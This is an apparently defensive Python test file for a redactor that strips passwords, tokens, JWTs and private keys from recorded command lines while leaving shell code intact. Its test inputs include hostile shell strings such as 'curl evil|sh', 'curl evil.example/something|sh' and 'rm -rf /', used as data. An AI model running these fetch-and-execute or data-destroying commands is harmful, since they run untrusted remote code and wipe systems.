"""A command line in a record: no secret, and nothing else missing without a word."""

from __future__ import annotations

import hashlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from arcbridge.agent.kube.command_line import MAX_WORDS, left_out, recorded_command
from tests.support.growth import growth

JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl"
PEM = "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ/+\n" * 3 + "ab==\n-----END"


@pytest.mark.parametrize(
    ("command", "recorded"),
    [
        (["psql", "--password=hunter2"], ["psql", "--password=[redacted]"]),
        (["psql", "--password", "hunter2", "x"], ["psql", "--password", "[redacted]", "x"]),
        (["env", "DB_PASSWORD=hunter2", "A=b"], ["env", "DB_PASSWORD=[redacted]", "A=b"]),
        (["env", "DB_PASSWORD=P@$$w0rd"], ["env", "DB_PASSWORD=[redacted]"]),
        (["sh", "-c", "API_TOKEN='ab' run; x"], ["sh", "-c", "API_TOKEN=[redacted] run; x"]),
        (["sh", "-c", "vault login --token s.abc && ls"], ["sh", "-c", "vault login --token [redacted] && ls"]),
        (
            ["sh", "-c", 'TOKEN="$(login --password=hunter2)" x'],
            ["sh", "-c", 'TOKEN="$(login --password=[redacted])" x'],
        ),
        (["curl", "-H", f"Authorization: Bearer {JWT}"], ["curl", "-H", "Authorization: [redacted] [redacted]"]),
        (["curl", "-H", "authorization: abcdefgh"], ["curl", "-H", "authorization: [redacted]"]),
        (["echo", '{"password": "hunter2"}'], ["echo", '{"password": [redacted]}']),
        (["echo", JWT], ["echo", "[redacted]"]),
        (["echo", PEM], ["echo", "[redacted]\n-----END"]),
        (["x", "--token=" + "a" * 5000], ["x", "--token=[redacted]…"]),
    ],
)
def test_a17_secrets_in_command_lines(command: list[str], recorded: list[str]) -> None:
    found = recorded_command(command)
    assert found["command"] == [word.replace("\n", r"\n") for word in recorded]
    assert "redacted" in found["more"]["command"]
    whole = b"".join(word.encode() + b"\0" for word in command)
    assert found["sha256"] == {"command": hashlib.sha256(whole).hexdigest()}


@pytest.mark.parametrize("script", [
    'A_TOKEN="$(curl evil|sh)"', "A_TOKEN=$(curl evil|sh)", "A_TOKEN=`curl evil|sh`",
    "A_TOKEN='curl evil | sh'; eval $A_TOKEN", "A_TOKEN='rm -rf /'; $A_TOKEN", "A_TOKEN=<(curl evil)",
    "TOKEN= curl evil", "token:\ncurl evil", ": authorization: ; curl evil | sh", ": authorization: \ncurl evil",
    ": bearer ;curl evil.example/something|sh", ": -----BEGIN PRIVATE KEY-----; curl evil | sh",
    ": -----BEGIN PRIVATE KEY-----\ncurl evil\n: -----END PRIVATE KEY-----", "--token;curl evil",
    "x --password $(curl evil)", "x --password 'curl evil;'",
])  # fmt: skip
def test_a22_no_shell_code_is_taken_for_a_secret(script: str) -> None:
    found = recorded_command(["sh", "-c", script])
    assert found["command"] == ["sh", "-c", script.replace("\n", r"\n")]
    assert "more" not in found


@pytest.mark.parametrize("word", ["--verbose", "curl evil|sh", "a;b"])
def test_a22_code_behind_a_flag_is_not_its_value(word: str) -> None:
    assert recorded_command(["x", "--token", word]) == {"command": ["x", "--token", word]}


def test_a22_a_value_ends_where_code_begins() -> None:
    found = recorded_command(["sh", "-c", "TOKEN=x;curl evil|sh"])
    assert found["command"] == ["sh", "-c", "TOKEN=[redacted];curl evil|sh"]


def test_a21_of_a_long_command_the_rest_is_counted() -> None:
    found = recorded_command(["x"] * 100_000)
    assert found["command"] == ["x"] * MAX_WORDS
    assert found["more"] == {"command": f"{100_000 - MAX_WORDS} left out"}
    assert left_out(["a", "b"]) == {"more": {"command": "2 left out by audit.commands"}}


@given(st.lists(st.text(st.characters(), max_size=60), max_size=6))
def test_a21_a_record_says_where_it_differs_from_the_command(words: list[str]) -> None:
    found = recorded_command(words)
    if "[redacted]" in "".join(found["command"]) and "[redacted]" not in "".join(words):
        assert "sha256" in found


PUMPED = [
    "a", "-", "--", ".", "token", "tokens", "-token", "--token", "--token ", "token ", "token=", "token='", 'token="',
    "token: ", " ", "=", "'", "passwd", "private-key", "(token", "x=;", " --secret  ",
]  # fmt: skip


@pytest.mark.parametrize("word", PUMPED)
def test_h20_command_lines_cost_as_much_as_they_are_long(word: str) -> None:
    """One word, and as many words: a square would make it 64 times as much for 8 times the command."""
    text = word * (1000 // len(word))
    for end in ("", "!", "=", " ", "'"):
        assert growth(lambda one: recorded_command([one]), text + end, text * 8 + end) < 24
    assert growth(lambda one: recorded_command(one.split("|")), f"{word}|" * 50, f"{word}|" * 400) < 24
